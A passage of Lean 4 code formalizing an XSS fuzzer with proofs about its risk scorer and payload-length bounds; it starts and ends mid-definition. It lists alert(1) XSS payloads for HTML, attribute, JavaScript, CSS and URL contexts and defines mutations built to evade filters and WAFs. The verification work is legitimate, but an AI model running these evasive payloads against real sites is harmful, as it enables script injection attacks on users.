  ++ (if !(response.contains '<') && marker.contains '<'
      then [("tag_stripping".data)] else [])

/-- `_detect_allowed_chars` ("for now, return all printable characters"). -/
def detectAllowedChars (_ : Str) : List Char := Py.printableChars

/-- `_detect_max_length` (always `None` in the source). -/
def detectMaxLength (_ : Str) : Option Nat := none

/-- `_detect_encoding`. -/
def detectEncoding (response marker : Str) : Option Str :=
  if Py.containsSub response (Py.htmlEscape marker)
     && !(Py.containsSub response marker) then some ("html".data)
  else if Py.containsSub response (Py.urlQuote ['/'] marker)
          && !(Py.containsSub response marker) then some ("url".data)
  else none

/-- `_analyze_context_at_position`: match the 100-character window around
the occurrence against the pattern table, first match wins. -/
def analyzeContextAtPosition (response : Str) (position : Nat) (marker : Str) :
    Option ContextFingerprint :=
  let start := position - 100
  let stop := min response.length (position + marker.length + 100)
  let window := (response.drop start).take (stop - start)
  (contextPatterns.findSome? (fun pr =>
    (pr.2.findSome? (fun build => Re.reSearch (build marker) window)).map
      (fun caps => (pr.1, caps)))).map
    (fun pr =>
      { context_type := pr.1
        prefix_ := Re.capGet pr.2 1
        suffix_ := Re.capGet pr.2 2
        filters_detected := detectFilters response marker
        allowed_chars := detectAllowedChars response
        blocked_chars := []
        max_length := detectMaxLength response
        encoding_required := detectEncoding response marker })

/-- `_select_best_context`: "for now, return the first one". -/
def selectBestContext (contexts : List ContextFingerprint) : ContextFingerprint :=
  contexts.headD
    { context_type := .HTML_TAG_CONTENT
      prefix_ := []
      suffix_ := []
      filters_detected := []
      allowed_chars := []
      blocked_chars := []
      max_length := none
      encoding_required := none }

/-- `detect_context`. -/
def detectContext (response : Str) (marker : Str) : ContextFingerprint :=
  let positions := Py.findPositions marker response
  if positions.isEmpty then
    { context_type := .HTML_TAG_CONTENT
      prefix_ := []
      suffix_ := []
      filters_detected := []
      allowed_chars := []
      blocked_chars := []
      max_length := none
      encoding_required := none }
  else
    let contexts := positions.filterMap
      (fun pos => analyzeContextAtPosition response pos marker)
    if !contexts.isEmpty then selectBestContext contexts
    else
      { context_type := .HTML_TAG_CONTENT
        prefix_ := []
        suffix_ := []
        filters_detected := []
        allowed_chars := Py.printableChars
        blocked_chars := []
        max_length := none
        encoding_required := none }

/-- `_get_default_payloads`. -/
def defaultPayloads (c : InjectionContext) : List Str :=
  match c with
  | .HTML_TAG_CONTENT =>
    [("<script>alert(1)</script>".data), ("<img src=x onerror=alert(1)>".data),
     ("<svg onload=alert(1)>".data), ("<iframe src=\"javascript:alert(1)\">".data)]
  | .HTML_ATTRIBUTE_VALUE =>
    [("\" onmouseover=alert(1) \"".data), ("' onclick=alert(1) '".data),
     ("\" autofocus onfocus=alert(1) \"".data), ("\"><script>alert(1)</script>".data)]
  | .JAVASCRIPT_STRING_SINGLE =>
    [("';alert(1);//".data), ("\\';alert(1);//".data), ("'+alert(1)+'".data),
     ("'-alert(1)-'".data)]
  | .JAVASCRIPT_STRING_DOUBLE =>
    [("\";alert(1);//".data), ("\\\";alert(1);//".data), ("\"+alert(1)+\"".data),
     ("\"-alert(1)-\"".data)]
  | .CSS_PROPERTY_VALUE =>
    [("expression(alert(1))".data), ("url(\"javascript:alert(1)\")".data),
     ("\x7dbody\x7bbackground:url(\"javascript:alert(1)\")".data)]
  | .URL_QUERY =>
    [("javascript:alert(1)".data), ("\"><script>alert(1)</script>".data),
     ("';alert(1);//".data)]
  | _ => [("<script>alert(1)</script>".data)]

/-- `_is_payload_allowed`. -/
def isPayloadAllowed (payload : Str) (ctx : ContextFingerprint) : Bool :=
  if !ctx.blocked_chars.isEmpty then
    !(ctx.blocked_chars.any (fun c => payload.contains c))
  else if !ctx.allowed_chars.isEmpty then
    payload.all (fun c => c ∈ ctx.allowed_chars)
  else true

/-- `_generate_context_variants` (no randomness involved). -/
def generateContextVariants (payload : Str) (ctx : ContextFingerprint) :
    List Str :=
  let breakers := contextBreakers ctx.context_type
  let variants :=
    payload :: (breakers.map (fun b =>
      [b ++ payload, payload ++ b, b ++ payload ++ b])).flatten
  let variants :=
    match ctx.encoding_required with
    | some name =>
      match encoderFor name with
      | some enc => variants ++ (variants.take 5).map enc
      | none => variants
    | none => variants
  variants.filter (fun v => isPayloadAllowed v ctx)

/-- Case-randomisation of one tag name: one draw per character
(`random.choice([c.upper(), c.lower()])`). -/
def randCaseChars (rng : List Nat) : Str → Str × List Nat
  | [] => ([], rng)
  | c :: t =>
    let (b, rng') := Py.nextCoin rng
    let (rest, rng'') := randCaseChars rng' t
    ((if b then c.toLower else c.toUpper) :: rest, rng'')

/-- `re.sub(r'<([a-zA-Z]+)', randomize_tag_case, payload)`. -/
def caseRandTags (rng : List Nat) : Str → Str × List Nat
  | [] => ([], rng)
  | '<' :: t =>
    let w := t.takeWhile Char.isAlpha
    if w.isEmpty then
      let (rest, rng') := caseRandTags rng t
      ('<' :: rest, rng')
    else
      let (w', rng') := randCaseChars rng w
      let (rest, rng'') := caseRandTags rng' (t.drop w.length)
      ('<' :: w' ++ rest, rng'')
  | c :: t =>
    let (rest, rng') := caseRandTags rng t
    (c :: rest, rng')
termination_by s => s.length
decreasing_by
  · simp
  · simp only [List.length_drop, List.length_cons]
    have : w.length ≤ t.length := by
      simpa [w] using (List.takeWhile_prefix (l := t) Char.isAlpha).length_le
    omega
  · simp

/-- `_mutate_case`. -/
def mutateCase (rng : List Nat) (payload : Str) (ctx : ContextFingerprint) :
    Str × List Nat :=
  if ctx.context_type ∈ ([.JAVASCRIPT_STRING_SINGLE, .JAVASCRIPT_STRING_DOUBLE] :
      List InjectionContext) then (payload, rng)
  else if payload.contains '<' then caseRandTags rng payload
  else (payload, rng)

/-- `_mutate_encoding` (note: the `&` entity is substituted last, after the
other substitutions have introduced `&` characters, exactly as in the
source). -/
def mutateEncoding (payload : Str) (ctx : ContextFingerprint) : Str :=
  if ctx.context_type = .URL_QUERY then Py.urlQuote [] payload
  else if ctx.context_type ∈ ([.HTML_TAG_CONTENT, .HTML_ATTRIBUTE_VALUE] :
      List InjectionContext) then
    (['<', '>', '"', '\'', '&']).foldl (fun enc ch =>
      if enc.contains ch then
        Py.replaceAll [ch] ('&' :: '#' :: Py.natStr ch.toNat ++ (";".data)) enc
      else enc) payload
  else payload

/-- `random.sample(whitespace_chars, 2)`: two distinct oracle-chosen
whitespace characters. -/
def sampleTwoWs (rng : List Nat) : (Char × Char) × List Nat :=
  let ws : List Char := [' ', '\t', '\n', '\r', '\x0c', '\x0b']
  let (i, rng') := Py.next rng
  let first := ws.getD (i % 6) ' '
  let rest := ws.eraseIdx (i % 6)
  let (j, rng'') := Py.next rng'
  ((first, rest.getD (j % 5) ' '), rng'')

/-- `_mutate_whitespace`. -/
def mutateWhitespace (rng : List Nat) (payload : Str) (ctx : ContextFingerprint) :
    Str × List Nat :=
  if ctx.context_type = .HTML_TAG_CONTENT then
    let ((w₁, w₂), rng') := sampleTwoWs rng
    let step := fun (s : Str) (w : Char) =>
      Py.replaceAll (">".data) ('>' :: [w]) (Py.replaceAll ("<".data) (w :: '<' :: []) s)
    (step (step payload w₁) w₂, rng')
  else (payload, rng)

/-- `_mutate_comments`. -/
def mutateComments (payload : Str) (ctx : ContextFingerprint) : Str :=
  if ctx.context_type = .HTML_TAG_CONTENT then
    if Py.containsSub payload ("<script>".data) then
      Py.replaceAll ("<script>".data) ("<scr<!-- -->ipt>".data) payload
    else payload
  else if ctx.context_type ∈ ([.JAVASCRIPT_STRING_SINGLE, .JAVASCRIPT_STRING_DOUBLE] :
      List InjectionContext) then
    payload ++ ("/*comment*/".data)
  else payload

/-- `_mutate_unicode`: one draw per character in JavaScript string
contexts. -/
def unicodeMutateChars (rng : List Nat) : Str → Str × List Nat
  | [] => ([], rng)
  | c :: t =>
    let (b, rng') := Py.nextCoin rng
    let (rest, rng'') := unicodeMutateChars rng' t
    ((if b then '\\' :: 'u' :: Py.hex4 c.toNat else [c]) ++ rest, rng'')

def mutateUnicode (rng : List Nat) (payload : Str) (ctx : ContextFingerprint) :
    Str × List Nat :=
  if ctx.context_type ∈ ([.JAVASCRIPT_STRING_SINGLE, .JAVASCRIPT_STRING_DOUBLE] :
      List InjectionContext) then
    unicodeMutateChars rng payload
  else (payload, rng)

/-- `_mutate_double_encode`. -/
def mutateDoubleEncode (payload : Str) (ctx : ContextFingerprint) : Str :=
  if ctx.context_type = .URL_QUERY then
    Py.urlQuote ['/'] (Py.urlQuote ['/'] payload)
  else if ctx.context_type ∈ ([.HTML_TAG_CONTENT, .HTML_ATTRIBUTE_VALUE] :
      List InjectionContext) then
    Py.htmlEscape (Py.htmlEscape payload)
  else payload

/-- `_mutate_concatenation`. -/
def mutateConcatenation (payload : Str) (ctx : ContextFingerprint) : Str :=
  if Py.containsSub payload ("alert".data) then
    if ctx.context_type ∈ ([.JAVASCRIPT_STRING_SINGLE, .JAVASCRIPT_STRING_DOUBLE] :
        List InjectionContext) then
      Py.replaceAll ("alert".data) ("al+ert".data) payload
    else if ctx.context_type = .HTML_TAG_CONTENT then
      Py.replaceAll ("alert".data) ("al&#101;rt".data) payload
    else payload
  else payload

/-- `_apply_mutations`: run the seven mutation operators in order, keeping
each non-empty result that differs from its input. -/
def applyMutations (rng : List Nat) (payload : Str) (ctx : ContextFingerprint) :
    List Str × List Nat :=
  let (m₁, rng₁) := mutateCase rng payload ctx
  let m₂ := mutateEncoding payload ctx
  let (m₃, rng₃) := mutateWhitespace rng₁ payload ctx
  let m₄ := mutateComments payload ctx
  let (m₅, rng₅) := mutateUnicode rng₃ payload ctx
  let m₆ := mutateDoubleEncode payload ctx
  let m₇ := mutateConcatenation payload ctx
  (([m₁, m₂, m₃, m₄, m₅, m₆, m₇].filter
      (fun m => !m.isEmpty && m ≠ payload)), rng₅)

def dedupFirstAux (seen : List Str) : List Str → List Str
  | [] => []
  | x :: t => if x ∈ seen then dedupFirstAux seen t else x :: dedupFirstAux (x :: seen) t

/-- Remove duplicates preserving first-seen order. -/
def dedupFirst (l : List Str) : List Str := dedupFirstAux [] l

/-- The per-base-payload body of `generate_payloads`: context variants,
then mutations of the first five variants. -/
def payloadsForBase (rng : List Nat) (ctx : ContextFingerprint) (base : Str) :
    List Str × List Nat :=
  let variants := generateContextVariants base ctx
  let rec mutLoop (rng : List Nat) : List Str → List Str × List Nat
    | [] => ([], rng)
    | v :: vs =>
      let (ms, rng') := applyMutations rng v ctx
      let (rest, rng'') := mutLoop rng' vs
      (ms ++ rest, rng'')
  let (mutated, rng') := mutLoop rng (variants.take 5)
  (variants ++ mutated, rng')

/-- `generate_payloads`. -/
def generatePayloads (rng : List Nat) (ctx : ContextFingerprint)
    (basePayloads : Option (List Str)) : List Str × List Nat :=
  let bases := basePayloads.getD (defaultPayloads ctx.context_type)
  let rec baseLoop (rng : List Nat) : List Str → List Str × List Nat
    | [] => ([], rng)
    | b :: bs =>
      let (ps, rng') := payloadsForBase rng ctx b
      let (rest, rng'') := baseLoop rng' bs
      (ps ++ rest, rng'')
  let (adapted, rng') := baseLoop rng bases
  (dedupFirst adapted, rng')

/-- `_detect_waf`. -/
def detectWaf (response : Str) : Bool × Option Str :=
  let rl := Py.lower response
  match wafSignatures.findSome? (fun pr =>
    if pr.2.any (fun sig => Py.containsSub rl (Py.lower sig)) then some pr.1
    else none) with
  | some name => (true, some name)
  | none =>
    if [("blocked".data), ("forbidden".data), ("not acceptable".data),
        ("security policy".data), ("access denied".data),
        ("suspicious".data)].any (fun ind => Py.containsSub rl ind) then
      (true, some ("Generic".data))
    else (false, none)

/-- `_detect_waf_block`. -/
def detectWafBlock (response : Str) : Bool :=
  [("blocked".data), ("forbidden".data), ("403".data), ("406".data),
   ("security".data), ("firewall".data), ("denied".data)].any
    (fun ind => Py.containsSub (Py.lower response) ind)

def successIndicators : List Str :=
  [("alert".data), ("confirm".data), ("prompt".data),
   ("onerror".data), ("onload".data), ("onclick".data),
   ("<script".data), ("<img".data), ("<svg".data)]

/-- `_analyze_fuzzing_result`. -/
def analyzeFuzzingResult (payload response : Str) (ctx : ContextFingerprint) :
    FuzzingResult :=
  let rl := Py.lower response
  let success := successIndicators.any (fun ind => Py.containsSub rl ind)
  let confidence : ℚ :=
    (if Py.containsSub response payload then (1 : ℚ)/2 else 0)
    + (if successIndicators.any (fun ind => Py.containsSub rl ind) then
         (3 : ℚ)/10 else 0)
    + (if !(detectWafBlock response) then (2 : ℚ)/10 else 0)
  let (wafDetected, wafType) := detectWaf response
  { payload := payload
    context := ctx.context_type
    success := success
    confidence := min 1 confidence
    mutations_applied := []
    encoding_used := ("none".data)
    response_indicators :=
      [(("payload_reflected".data), .bool (Py.containsSub response payload)),
       (("length".data), .nat response.length),
       (("status_code".data), .nat 200)]
    waf_detected := wafDetected
    waf_type := wafType }

/-- The learned state of one fuzzer instance: `successful_payloads`
(keyed by context value) and `blocked_patterns`. -/
structure FuzzerState where
  successful : List (Str × List Str)
  blocked : List Str
deriving DecidableEq, Repr

def appendSuccess (key : Str) (payload : Str) (d : List (Str × List Str)) :
    List (Str × List Str) :=
  if d.any (fun pr => pr.1 = key) then
    d.map (fun pr => if pr.1 = key then (pr.1, pr.2 ++ [payload]) else pr)
  else d ++ [(key, [payload])]

/-- `_learn_from_result`. -/
def learnFromResult (r : FuzzingResult) (ctx : ContextFingerprint)
    (st : FuzzerState) : FuzzerState :=
  let st₁ :=
    if r.success then
      { st with successful := appendSuccess ctx.context_type.val r.payload st.successful }
    else st
  if r.waf_detected then
    { st₁ with blocked := if r.payload ∈ st₁.blocked then st₁.blocked
                          else st₁.blocked ++ [r.payload] }
  else st₁

/-- The attempt loop of `fuzz_context`: a test-function exception skips the
attempt (no result recorded, no learning) and the loop continues.
(`_adapt_fuzzing_strategy`, called every tenth attempt, only computes a
local success rate and has no effect; it is omitted.) -/
def fuzzLoop (tf : Str → Except Str Str) (ctx : ContextFingerprint) :
    List Str → FuzzerState → List FuzzingResult × FuzzerState
  | [], st => ([], st)
  | p :: rest, st =>
    match tf p with
    | .error _ => fuzzLoop tf ctx rest st
    | .ok response =>
      let r := analyzeFuzzingResult p response ctx
      let st' := learnFromResult r ctx st
      let (rs, st'') := fuzzLoop tf ctx rest st'
      (r :: rs, st'')

/-- `fuzz_context`. -/
def fuzzContext (rng : List Nat) (tf : Str → Except Str Str)
    (ctx : ContextFingerprint) (maxAttempts : Nat) (st : FuzzerState) :
    List FuzzingResult × FuzzerState :=
  fuzzLoop tf ctx ((generatePayloads rng ctx none).1.take maxAttempts) st

end Fuzzer

/-! ## Verified properties -/

theorem Py.containsSub_iff {s sub : Str} :
    Py.containsSub s sub = true ↔ sub <:+: s := by
  unfold Py.containsSub
  rw [List.any_eq_true]
  constructor
  · rintro ⟨i, _, hp⟩
    have hpre : sub <+: s.drop i := List.isPrefixOf_iff_prefix.mp hp
    exact List.infix_iff_prefix_suffix.mpr ⟨s.drop i, hpre, List.drop_suffix i s⟩
  · rintro ⟨pre, suf, heq⟩
    refine ⟨pre.length, ?_, ?_⟩
    · rw [List.mem_range]
      have : pre.length ≤ s.length := by
        rw [← heq]
        simp only [List.length_append]
        omega
      omega
    · apply List.isPrefixOf_iff_prefix.mpr
      rw [← heq, List.append_assoc, List.drop_left]
      exact ⟨suf, rfl⟩

theorem Analyzer.rank_of_score (s : Nat) :
    Analyzer.levelRank (Analyzer.riskLevelOfScore s) =
      if 8 ≤ s then 3 else if 6 ≤ s then 2 else if 3 ≤ s then 1 else 0 := by
  unfold Analyzer.riskLevelOfScore
  split_ifs <;> rfl

theorem Analyzer.riskLevelOfScore_mem (s : Nat) :
    Analyzer.riskLevelOfScore s ∈
      [("low".data), ("medium".data), ("high".data), ("critical".data)] := by
  unfold Analyzer.riskLevelOfScore
  split_ifs <;> simp

theorem Analyzer.riskLevelOfScore_ge6_mem {s : Nat} (h : 6 ≤ s) :
    Analyzer.riskLevelOfScore s ∈
      [("medium".data), ("high".data), ("critical".data)] := by
  unfold Analyzer.riskLevelOfScore
  split_ifs <;> first | simp | omega

/-- The successful analysis path: the attempt always succeeds (every step
of the embedding is total), and its risk level is the threshold table
applied to the accumulated score. -/
theorem Analyzer.analyzePayload_risk_level (p : Str) :
    (Analyzer.analyzePayload p).risk_level =
      Analyzer.riskLevelOfScore
        (Analyzer.riskScore p (Analyzer.detectContexts p)
          (Analyzer.identifyBypassTechniques p)) := rfl

/-- C1: for every payload string, the risk scorer maps its accumulated
numeric score to the risk level exactly by the fixed threshold table
(critical at score ≥ 8, high at ≥ 6, medium at ≥ 3, else low); that table
is monotone in the score, so a higher score never yields a lower level; and
the level is always one of low/medium/high/critical. -/
theorem c1_risk_threshold_table (p : Str) :
    (Analyzer.analyzePayload p).risk_level =
      Analyzer.riskLevelOfScore
        (Analyzer.riskScore p (Analyzer.detectContexts p)
          (Analyzer.identifyBypassTechniques p))
    ∧ (∀ s t : Nat, s ≤ t →
        Analyzer.levelRank (Analyzer.riskLevelOfScore s)
          ≤ Analyzer.levelRank (Analyzer.riskLevelOfScore t))
    ∧ (Analyzer.analyzePayload p).risk_level ∈
        [("low".data), ("medium".data), ("high".data), ("critical".data)] := by
  refine ⟨Analyzer.analyzePayload_risk_level p, ?_, ?_⟩
  · intro s t hst
    rw [Analyzer.rank_of_score, Analyzer.rank_of_score]
    split_ifs <;> omega
  · rw [Analyzer.analyzePayload_risk_level p]
    exact Analyzer.riskLevelOfScore_mem _

/-- Witness for C1 at the empty payload and scores 2 ≤ 7. -/
theorem c1_risk_threshold_table_witness :
    (Analyzer.analyzePayload []).risk_level =
      Analyzer.riskLevelOfScore
        (Analyzer.riskScore [] (Analyzer.detectContexts [])
          (Analyzer.identifyBypassTechniques []))
    ∧ Analyzer.levelRank (Analyzer.riskLevelOfScore 2)
        ≤ Analyzer.levelRank (Analyzer.riskLevelOfScore 7)
    ∧ (Analyzer.analyzePayload []).risk_level ∈
        [("low".data), ("medium".data), ("high".data), ("critical".data)] :=
  ⟨(c1_risk_threshold_table []).1,
   (c1_risk_threshold_table []).2.1 2 7 (by decide),
   (c1_risk_threshold_table []).2.2⟩

/-- C2: `analyze_payload` never propagates an exception: it always returns
a `PayloadAnalysis` — either the attempt's result, or, had any internal
step raised, the degraded analysis with contexts `[UNKNOWN]`, risk level
`"low"`, confidence 0 and an explanation containing the error text. -/
theorem c2_analyze_never_raises (p : Str) :
    (∃ a, Analyzer.analyzeAttempt p = Except.ok a ∧ Analyzer.analyzePayload p = a)
    ∨ (∃ e, Analyzer.analyzeAttempt p = Except.error e
        ∧ (Analyzer.analyzePayload p).contexts = [Analyzer.Context.UNKNOWN]
        ∧ (Analyzer.analyzePayload p).risk_level = ("low".data)
        ∧ (Analyzer.analyzePayload p).confidence_score = 0
        ∧ e <:+: (Analyzer.analyzePayload p).explanation) := by
  cases h : Analyzer.analyzeAttempt p with
  | ok a =>
    exact Or.inl ⟨a, rfl, by simp [Analyzer.analyzePayload, h]⟩
  | error e =>
    refine Or.inr ⟨e, rfl, ?_, ?_, ?_, ?_⟩ <;>
      simp [Analyzer.analyzePayload, h, Analyzer.degradedAnalysis]
    exact ⟨("Analysis failed: ".data), [], by simp⟩

theorem Analyzer.detectContexts_html_content {p : Str}
    (h : Py.containsSub (Py.lower p) ("<script>".data) = true) :
    Analyzer.Context.HTML_CONTENT ∈ Analyzer.detectContexts p := by
  have hinf : ("<script>".data) <:+: Py.lower p := Py.containsSub_iff.mp h
  have hinf7 : ("<script".data) <:+: Py.lower p :=
    List.IsInfix.trans ⟨[], ['>'], by decide⟩ hinf
  have hany : Analyzer.scriptTags.any
      (fun tag => Py.containsSub (Py.lower p) ('<' :: tag)) = true := by
    refine List.any_eq_true.mpr ⟨("script".data), by decide, ?_⟩
    exact Py.containsSub_iff.mpr hinf7
  simp only [Analyzer.detectContexts, hany, if_true]
  simp

theorem Analyzer.riskScore_script_ge6 {p : Str}
    (h : Py.containsSub (Py.lower p) ("<script>".data) = true) :
    6 ≤ Analyzer.riskScore p (Analyzer.detectContexts p)
          (Analyzer.identifyBypassTechniques p) := by
  have hctx := Analyzer.detectContexts_html_content h
  have hfil : Analyzer.Context.HTML_CONTENT ∈
      (Analyzer.detectContexts p).filter
        (fun c => decide (c ∈ Analyzer.highRiskContexts)) :=
    List.mem_filter.mpr ⟨hctx, by decide⟩
  have hlen : 1 ≤ ((Analyzer.detectContexts p).filter
      (fun c => decide (c ∈ Analyzer.highRiskContexts))).length :=
    List.length_pos_of_mem hfil
  simp only [Analyzer.riskScore, h, if_true]
  omega

/-- C3: every payload containing a literal `<script>` tag
(case-insensitively) is classified into the HTML-content context and rated
at least "medium". -/
theorem c3_script_tag_contexts_and_risk (p : Str)
    (h : Py.containsSub (Py.lower p) ("<script>".data) = true) :
    Analyzer.Context.HTML_CONTENT ∈ (Analyzer.analyzePayload p).contexts
    ∧ (Analyzer.analyzePayload p).risk_level ∈
        [("medium".data), ("high".data), ("critical".data)] := by
  constructor
  · have : (Analyzer.analyzePayload p).contexts = Analyzer.detectContexts p := rfl
    rw [this]
    exact Analyzer.detectContexts_html_content h
  · rw [Analyzer.analyzePayload_risk_level p]
    exact Analyzer.riskLevelOfScore_ge6_mem (Analyzer.riskScore_script_ge6 h)

/-- Witness for C3 at `<script>alert(1)</script>`. -/
theorem c3_script_tag_contexts_and_risk_witness :
    Analyzer.Context.HTML_CONTENT ∈
      (Analyzer.analyzePayload ("<script>alert(1)</script>".data)).contexts
    ∧ (Analyzer.analyzePayload ("<script>alert(1)</script>".data)).risk_level ∈
        [("medium".data), ("high".data), ("critical".data)] :=
  c3_script_tag_contexts_and_risk ("<script>alert(1)</script>".data) (by decide)

theorem Polyglot.basicLoop_bound (maxLen : Nat) :
    ∀ (combos : List (List Polyglot.PolyglotComponent)) (rng : List Nat)
      (p : Polyglot.PolyglotPayload),
      p ∈ (Polyglot.basicLoop maxLen rng combos).1 →
      p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro combos
  induction combos with
  | nil => intro rng p hp; simp [Polyglot.basicLoop] at hp
  | cons combo rest ih =>
    intro rng p hp
    simp only [Polyglot.basicLoop] at hp
    rcases hc : Polyglot.combineComponents rng combo with ⟨combined, rng'⟩
    rw [hc] at hp
    rcases hb : Polyglot.basicLoop maxLen rng' rest with ⟨tail, rng''⟩
    rw [hb] at hp
    by_cases hif : combined.length ≤ maxLen
    · rw [if_pos hif] at hp
      rcases List.mem_cons.mp hp with h | h
      · subst h
        exact ⟨hif, rfl⟩
      · have := ih rng' p (by rw [hb]; exact h)
        exact this
    · rw [if_neg hif] at hp
      exact ih rng' p (by rw [hb]; exact hp)

theorem Polyglot.encChainLoop_bound (maxLen : Nat) :
    ∀ (chain : List Polyglot.EncodingTechnique) (rng : List Nat) (content : Str)
      (used : List Polyglot.EncodingTechnique),
      (Polyglot.encChainLoop maxLen rng content used chain).1.length ≤ maxLen
      ∨ (Polyglot.encChainLoop maxLen rng content used chain).1 = content := by
  intro chain
  induction chain with
  | nil => intro rng content used; right; simp [Polyglot.encChainLoop]
  | cons enc rest ih =>
    intro rng content used
    simp only [Polyglot.encChainLoop]
    rcases ha : Polyglot.applyEncoding rng content enc with ⟨newC, rng'⟩
    by_cases hif : newC.length ≤ maxLen
    · rw [if_pos hif]
      rcases ih rng' newC (used ++ [enc]) with h | h
      · exact Or.inl h
      · exact Or.inl (by rw [h]; exact hif)
    · rw [if_neg hif]
      exact Or.inr rfl

theorem Polyglot.encodeOne_bound (maxLen : Nat) :
    ∀ (chains : List (List Polyglot.EncodingTechnique)) (rng : List Nat)
      (base : Polyglot.PolyglotPayload), base.payload.length ≤ maxLen →
      ∀ p ∈ (Polyglot.encodeOne maxLen rng base chains).1,
        p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro chains
  induction chains with
  | nil => intro rng base _ p hp; simp [Polyglot.encodeOne] at hp
  | cons chain rest ih =>
    intro rng base hbase p hp
    simp only [Polyglot.encodeOne] at hp
    rcases hc : Polyglot.encChainLoop maxLen rng base.payload [] chain
      with ⟨content, used, rng'⟩
    rw [hc] at hp
    rcases hr : Polyglot.encodeOne maxLen rng' base rest with ⟨tail, rng''⟩
    rw [hr] at hp
    have hcontent : content.length ≤ maxLen := by
      rcases Polyglot.encChainLoop_bound maxLen chain rng base.payload [] with h | h
      · rw [hc] at h; exact h
      · rw [hc] at h; simp only at h; rw [h]; exact hbase
    by_cases hif : used ≠ [] ∧ content ≠ base.payload
    · rw [if_pos hif] at hp
      rcases List.mem_cons.mp hp with h | h
      · subst h; exact ⟨hcontent, rfl⟩
      · exact ih rng' base hbase p (by rw [hr]; exact h)
    · rw [if_neg hif] at hp
      exact ih rng' base hbase p (by rw [hr]; exact hp)

theorem Polyglot.generateEncodedPolyglots_bound (maxLen : Nat) :
    ∀ (bases : List Polyglot.PolyglotPayload) (rng : List Nat),
      (∀ b ∈ bases, b.payload.length ≤ maxLen) →
      ∀ p ∈ (Polyglot.generateEncodedPolyglots rng bases maxLen).1,
        p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro bases
  induction bases with
  | nil => intro rng _ p hp; simp [Polyglot.generateEncodedPolyglots] at hp
  | cons base rest ih =>
    intro rng hb p hp
    simp only [Polyglot.generateEncodedPolyglots] at hp
    rcases h1 : Polyglot.encodeOne maxLen rng base Polyglot.encodingChains
      with ⟨first, rng'⟩
    rw [h1] at hp
    rcases h2 : Polyglot.generateEncodedPolyglots rng' rest maxLen with ⟨tail, rng''⟩
    rw [h2] at hp
    rcases List.mem_append.mp hp with h | h
    · exact Polyglot.encodeOne_bound maxLen Polyglot.encodingChains rng base
        (hb base (List.mem_cons_self _ _)) p (by rw [h1]; exact h)
    · exact ih rng' (fun b hbm => hb b (List.mem_cons_of_mem _ hbm)) p
        (by rw [h2]; exact h)

theorem Polyglot.obfChainLoop_bound (maxLen : Nat) :
    ∀ (chain : List Polyglot.ObfuscationTechnique) (rng : List Nat) (content : Str)
      (used : List Polyglot.ObfuscationTechnique),
      (Polyglot.obfChainLoop maxLen rng content used chain).1.length ≤ maxLen
      ∨ (Polyglot.obfChainLoop maxLen rng content used chain).1 = content := by
  intro chain
  induction chain with
  | nil => intro rng content used; right; simp [Polyglot.obfChainLoop]
  | cons obf rest ih =>
    intro rng content used
    simp only [Polyglot.obfChainLoop]
    rcases ha : Polyglot.applyObfuscation rng content obf with ⟨newC, rng'⟩
    by_cases hif : newC.length ≤ maxLen
    · rw [if_pos hif]
      rcases ih rng' newC (used ++ [obf]) with h | h
      · exact Or.inl h
      · exact Or.inl (by rw [h]; exact hif)
    · rw [if_neg hif]
      exact Or.inr rfl

theorem Polyglot.obfuscateOne_bound (maxLen : Nat) :
    ∀ (chains : List (List Polyglot.ObfuscationTechnique)) (rng : List Nat)
      (base : Polyglot.PolyglotPayload), base.payload.length ≤ maxLen →
      ∀ p ∈ (Polyglot.obfuscateOne maxLen rng base chains).1,
        p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro chains
  induction chains with
  | nil => intro rng base _ p hp; simp [Polyglot.obfuscateOne] at hp
  | cons chain rest ih =>
    intro rng base hbase p hp
    simp only [Polyglot.obfuscateOne] at hp
    rcases hc : Polyglot.obfChainLoop maxLen rng base.payload [] chain
      with ⟨content, used, rng'⟩
    rw [hc] at hp
    rcases hr : Polyglot.obfuscateOne maxLen rng' base rest with ⟨tail, rng''⟩
    rw [hr] at hp
    have hcontent : content.length ≤ maxLen := by
      rcases Polyglot.obfChainLoop_bound maxLen chain rng base.payload [] with h | h
      · rw [hc] at h; exact h
      · rw [hc] at h; simp only at h; rw [h]; exact hbase
    by_cases hif : used ≠ [] ∧ content ≠ base.payload
    · rw [if_pos hif] at hp
      rcases List.mem_cons.mp hp with h | h
      · subst h; exact ⟨hcontent, rfl⟩
      · exact ih rng' base hbase p (by rw [hr]; exact h)
    · rw [if_neg hif] at hp
      exact ih rng' base hbase p (by rw [hr]; exact hp)

theorem Polyglot.generateObfuscatedPolyglots_bound (maxLen : Nat) :
    ∀ (bases : List Polyglot.PolyglotPayload) (rng : List Nat),
      (∀ b ∈ bases, b.payload.length ≤ maxLen) →
      ∀ p ∈ (Polyglot.generateObfuscatedPolyglots rng bases maxLen).1,
        p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro bases
  induction bases with
  | nil => intro rng _ p hp; simp [Polyglot.generateObfuscatedPolyglots] at hp
  | cons base rest ih =>
    intro rng hb p hp
    simp only [Polyglot.generateObfuscatedPolyglots] at hp
    rcases h1 : Polyglot.obfuscateOne maxLen rng base (Polyglot.obfuscationChains.take 3)
      with ⟨first, rng'⟩
    rw [h1] at hp
    rcases h2 : Polyglot.generateObfuscatedPolyglots rng' rest maxLen with ⟨tail, rng''⟩
    rw [h2] at hp
    rcases List.mem_append.mp hp with h | h
    · exact Polyglot.obfuscateOne_bound maxLen (Polyglot.obfuscationChains.take 3) rng
        base (hb base (List.mem_cons_self _ _)) p (by rw [h1]; exact h)
    · exact ih rng' (fun b hbm => hb b (List.mem_cons_of_mem _ hbm)) p
        (by rw [h2]; exact h)

theorem Polyglot.generateBrowserSpecificPolyglots_bound (maxLen : Nat)
    (bases : List Polyglot.PolyglotPayload) (brs : List Str) :
    ∀ p ∈ Polyglot.generateBrowserSpecificPolyglots bases brs maxLen,
      p.payload.length ≤ maxLen ∧ p.length = p.payload.length := by
  intro p hp
  simp only [Polyglot.generateBrowserSpecificPolyglots, List.mem_flatten,
    List.mem_map] at hp
  obtain ⟨l₁, ⟨base, _, rfl⟩, hpl₁⟩ := hp
  simp only [List.mem_flatten, List.mem_map] at hpl₁
  obtain ⟨l₂, ⟨browser, _, rfl⟩, hpl₂⟩ := hpl₁
  cases hlk : Polyglot.browserModifications.lookup browser with
  | none => rw [hlk] at hpl₂; simp at hpl₂
  | some pairs =>
